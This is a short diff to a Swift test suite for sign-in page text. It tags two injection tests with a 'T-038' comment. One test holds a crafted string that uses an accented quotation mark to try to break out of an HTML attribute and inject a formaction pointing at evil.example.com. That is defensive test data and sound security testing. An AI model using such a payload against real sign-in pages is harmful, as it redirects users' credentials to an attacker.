@@ -29,6 +29,7 @@ struct SignInTextTests {
         }
     }
 
+    // T-038
     @Test(arguments: LocalizedStrings.all.map(\.language))
     func `attack: what a client is called, and what it asks for, stays text`(_ language: String) async throws {
         let texts = try #require(LocalizedStrings.all.first { $0.language == language })
@@ -67,6 +68,7 @@ struct SignInTextTests {
         }
     }
 
+    // T-038
     @Test func `attack: a quotation mark with an accent on it ends no attribute`() async throws {
         let hint = "x\"\u{301} formaction=\"\u{301}https://evil.example.com\"\u{338} y"
         let page = SignInPages(site: "Vestibule").choice(
